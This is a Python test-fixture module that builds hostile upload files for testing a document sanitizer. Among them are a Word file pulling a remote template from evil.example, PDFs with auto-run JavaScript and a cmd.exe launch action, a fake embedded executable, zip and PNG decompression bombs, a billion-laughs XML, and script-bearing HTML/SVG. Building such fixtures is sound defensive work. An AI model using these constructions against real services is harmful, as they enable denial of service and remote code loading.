"""Files as citizens and attackers send them, built here so that the attack can be read."""

import io
import struct
import zipfile
import zlib

import openpyxl
import pikepdf
import pillow_heif
from PIL import Image

GPS = {1: "N", 2: (43.0, 14.0, 0.0), 3: "E", 4: (76.0, 57.0, 0.0)}
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml."


def relations(*rows: tuple[str, str, str], prefix: str = "") -> str:
    """Return a part of relations r1, r2…: (type, target, "External" or "")."""
    declaration, tag = (f"xmlns:{prefix}", f"{prefix}:") if prefix else ("xmlns", "")
    return (
        f'<?xml version="1.0"?><{tag}Relationships {declaration}='
        '"http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<{tag}Relationship Id="r{number}" Target="{target}" '
            f'Type="{kind if ":" in kind else RELATION + kind}"'
            + (f' TargetMode="{mode}"/>' if mode else "/>")
            for number, (kind, target, mode) in enumerate(rows, 1)
        )
        + f"</{tag}Relationships>"
    )


def word_part(name: str, inside: str) -> str:
    """Return a part of a Word file: <w:name>inside</w:name>."""
    return (
        f'<?xml version="1.0"?><w:{name} xmlns:w="{WORD}" xmlns:r="{RELATION[:-1]}" '
        'xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f"{inside}</w:{name}>"
    )


def word_text(runs: str) -> str:
    """Return the main part of a Word file with one paragraph of the given runs."""
    return word_part("document", f"<w:body><w:p>{runs}</w:p></w:body>")


DOCX = {
    "[Content_Types].xml": (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/octet-stream"/>'
        f'<Override PartName="/word/document.xml" ContentType="{WORD_TYPE}document.main+xml"/>'
        f'<Override PartName="/word/settings.xml" ContentType="{WORD_TYPE}settings+xml"/></Types>'
    ),
    "_rels/.rels": relations(
        ("officeDocument", "word/document.xml", ""),
        ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml", ""),
    ),
    "word/document.xml": word_text("<w:r><w:t>Өтініш</w:t></w:r>"),
    "docProps/core.xml": "<coreProperties><creator>Sergei Ivanov</creator></coreProperties>",
}  # fmt: skip
EXTERNAL_TEMPLATE = relations(
    ("attachedTemplate", "https://evil.example/t.dotm", "External"),
    ("hyperlink", "https://adilet.zan.kz", "External"),
)

SIGNED = relations(
    ("officeDocument", "word/document.xml", ""),
    (
        "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
        "_xmlsignatures/origin.sigs",
        "",
    ),
)


def image(kind: str = "JPEG", size=(64, 48), *, gps: bool = True, turn: int = 1) -> bytes:
    pillow_heif.register_heif_opener()
    canvas = Image.new("RGB", size, "#0b5a8a")
    exif = canvas.getexif()
    exif[0x010F] = "Qazaqphone"
    exif[0x0112] = turn
    if gps:
        exif.get_ifd(0x8825).update(GPS)
    out = io.BytesIO()
    canvas.save(out, kind, exif=exif)
    return out.getvalue()


def photo() -> bytes:
    """Return a JPEG in which every row of pixels differs from the next."""
    canvas = Image.linear_gradient("L").convert("RGB")
    canvas.paste(Image.radial_gradient("L").crop((0, 0, 128, 256)).convert("RGB"))
    out = io.BytesIO()
    canvas.save(out, "JPEG")
    return out.getvalue()


def docx_of_word_online() -> bytes:
    """Return a Word file whose main part has another name."""
    parts = {
        name: part.replace("word/document.xml", "word/document2.xml") for name, part in DOCX.items()
    }
    parts["word/document2.xml"] = parts.pop("word/document.xml")
    return zip_archive(parts)


def with_backslashes(package: bytes) -> bytes:
    """Return the Office file with its parts named as some programs for Windows do."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return zip_archive(
            {name.replace("/", "\\"): archive.read(name) for name in archive.namelist()}
        )


def zip_archive(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(**more: str | bytes) -> bytes:
    """Return a Word file; `more` adds or replaces parts (name with / as __)."""
    return zip_archive({**DOCX, **{name.replace("__", "/"): part for name, part in more.items()}})


def xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "Су есептегіш"
    book.properties.creator = "Sergei Ivanov"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def pdf(change=None, **save) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.docinfo["/Author"] = "Sergei Ivanov"
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **save)
    return out.getvalue()


def with_script(document) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    document.Root.OpenAction = script
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", document.make_indirect(script)]))
    )
    document.pages[0].AA = pikepdf.Dictionary(O=script)


def with_attachment(document) -> None:
    document.attachments["virus.exe"] = b"MZ" + b"\0" * 100


def with_launch(document) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


def with_link(document) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://adilet.zan.kz")
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act
    )
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


def with_collection(document) -> None:
    document.Root.Collection = pikepdf.Dictionary(View=pikepdf.Name.D)


def with_xfa(document) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp/>")
    )


def with_signature(document) -> None:
    value = pikepdf.Dictionary(
        Type=pikepdf.Name.Sig, ByteRange=pikepdf.Array([0, 1, 2, 3]), Contents=pikepdf.String("x")
    )
    field = pikepdf.Dictionary(FT=pikepdf.Name.Sig, V=document.make_indirect(value))
    fields = pikepdf.Array([document.make_indirect(field)])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=fields)


def encrypted_pdf() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))


def encrypted_office() -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
    )


def png_bomb(side: int = 30_000) -> bytes:
    """Return a PNG of 900 million pixels in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    """Return a Word file with a part of 400 megabytes of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in DOCX.items():
            archive.writestr(name, part)
        with archive.open("word/media/zeros.bin", "w") as part:
            for _n in range(400):
                part.write(b"\0" * 1024 * 1024)
    return out.getvalue()


def zip_of_many_parts() -> bytes:
    return zip_archive({**DOCX, **{f"word/{n}.xml": "" for n in range(5_000)}})


def zip_with_false_size() -> bytes:
    """Return a Word file with a part whose header says that it has one byte."""
    data = bytearray(docx())
    name = b"word/document.xml"
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = -1
        while (start := data.find(signature, start + 1)) >= 0:
            length = 46 if signature == b"PK\x01\x02" else 30
            if data[start + length : start + length + len(name)] == name:
                data[start + offset : start + offset + 4] = struct.pack("<I", 1)
    return bytes(data)


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f'<w:document xmlns:w="{WORD}">&b;</w:document>'
)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
